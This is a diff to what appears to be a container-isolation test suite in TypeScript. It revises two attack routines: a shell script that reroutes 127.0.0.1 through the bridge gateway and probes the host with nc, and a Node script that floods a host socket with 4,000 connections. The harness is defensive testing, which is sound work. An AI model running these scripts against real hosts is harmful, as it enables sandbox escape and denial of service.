@@ -411,19 +411,20 @@ const bindHostPorts: Attack = async ({ effects, cfg }) => {
 }
 
 const loopbackViaBridge: Attack = async ({ cfg }) => {
+  // the container's root owns its network namespace: it can route 127.0.0.1 to the host's bridge
+  // address; only a host filter stops the packets reaching services bound to the host's loopback
   const script = `
 GW=$(ip route show default | awk '{print $3; exit}')
-sysctl -w net.ipv4.conf.all.route_localnet=1 >/dev/null 2>&1
-sysctl -w net.ipv4.conf.eth0.route_localnet=1 >/dev/null 2>&1
+S=$( (sysctl -w net.ipv4.conf.all.route_localnet=1 && sysctl -w net.ipv4.conf.eth0.route_localnet=1) 2>&1 | tr '\\n' ' ')
 ip route del local 127.0.0.1 dev lo table local 2>/dev/null
 ip route del local 127.0.0.0/8 dev lo table local 2>/dev/null
-ip route add 127.0.0.1/32 via "$GW" dev eth0 onlink 2>&1
+A=$(ip route add 127.0.0.1/32 via "$GW" dev eth0 onlink 2>&1)
 R=$(echo hostile-probe | timeout 5 nc 127.0.0.1 ${cfg.loopbackPort} 2>&1 | head -c 200)
 ip route del 127.0.0.1/32 2>/dev/null
 ip route add local 127.0.0.0/8 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
 ip route add local 127.0.0.1 dev lo table local proto kernel scope host src 127.0.0.1 2>/dev/null
 D=$(echo hostile-probe | timeout 5 nc "$GW" ${cfg.loopbackPort} 2>&1 | head -c 200)
-echo "through a route to 127.0.0.1 via $GW: [$R]; to $GW itself: [$D]"`
+echo "sysctl: [$S]; route: [$A]; through a route to 127.0.0.1 via $GW: [$R]; to $GW itself: [$D]"`
   const r = await run(script)
   const got = r.out.includes('HOST-LOOPBACK')
   return { lines: [`loopback-via-bridge ${got ? 'SUCCEEDED' : 'refused'}: ${r.out.replace(/\n/g, ' ')}`] }
@@ -468,38 +469,45 @@ const rpcSocketSymlinks: Attack = async ({ cfg }) => {
 
 const floodConnections: Attack = async () => {
   const N = 4000
+  // opened in batches, each retried on EAGAIN (a full listen backlog is not a refusal)
   const script = `
 const net = require('net')
 const N = ${N}
 let connected = 0, failed = 0, closedByHost = 0, replies = 0, firstError = '', firstReply = ''
 const socks = []
-let pending = N
-for (let i = 0; i < N; i++) {
-  const s = net.createConnection({ path: ${JSON.stringify(HOST_SOCK)} })
-  socks.push(s)
-  let open = false
-  s.on('connect', () => { open = true; connected++; if (--pending === 0) report() })
-  s.on('data', (d) => { replies++; if (!firstReply) firstReply = d.toString().slice(0, 300) })
-  s.on('error', (e) => { if (!firstError) firstError = e.message; if (!open) { failed++; if (--pending === 0) report() } })
-  s.on('close', () => { if (open) closedByHost++ })
+function open(tries) {
+  return new Promise((resolve) => {
+    const s = net.createConnection({ path: ${JSON.stringify(HOST_SOCK)} })
+    let isOpen = false
+    s.on('connect', () => { isOpen = true; connected++; socks.push(s); resolve() })
+    s.on('data', (d) => { replies++; if (!firstReply) firstReply = d.toString().slice(0, 300) })
+    s.on('error', (e) => {
+      if (isOpen) return
+      if (e.code === 'EAGAIN' && tries > 0) setTimeout(() => open(tries - 1).then(resolve), 50)
+      else { failed++; if (!firstError) firstError = e.message; resolve() }
+    })
+    s.on('close', () => { if (isOpen) closedByHost++ })
+  })
 }
-function report() {
+;(async () => {
+  for (let i = 0; i < N; i += 100) await Promise.all(Array.from({ length: Math.min(100, N - i) }, () => open(20)))
   setTimeout(() => {
     console.log(JSON.stringify({ connected, failed, closedByHost, replies, firstError, firstReply }))
     for (const s of socks) s.destroy()
     process.exit(0)
   }, 3000)
-}`
+})()`
   const js = `${MAIN}/flood-connections.js`
   fs.writeFileSync(js, script)
-  const r = await run(`ulimit -n 20000 2>/dev/null; exec ${process.execPath} ${js}`, 120_000)
+  const r = await run(`ulimit -n 20000 2>/dev/null; exec ${process.execPath} ${js}`, 300_000)
   let s: { connected: number; failed: number; closedByHost: number; replies: number; firstError: string; firstReply: string }
   try {
     s = JSON.parse(r.out.split('\n').pop() ?? '')
   } catch {
     return { lines: [`flood-connections done: the flooding process failed: ${r.out.slice(0, 300)}`] }
   }
-  const limited = s.failed > 0 || s.closedByHost > 0 || s.replies > 0
+  // only the host saying no counts: closing connections, an error reply, or refusing to connect
+  const limited = s.closedByHost > 0 || s.replies > 0 || (s.failed > 0 && !/EAGAIN|EMFILE/.test(s.firstError))
   return {
     lines: [
       `flood-connections ${limited ? 'refused' : 'SUCCEEDED'}: ${N} connections to host.sock: ${s.connected} connected, ${s.failed} failed (${s.firstError || '-'}), ${s.closedByHost} closed by the host, host said: ${s.firstReply.trim() || '-'}`,
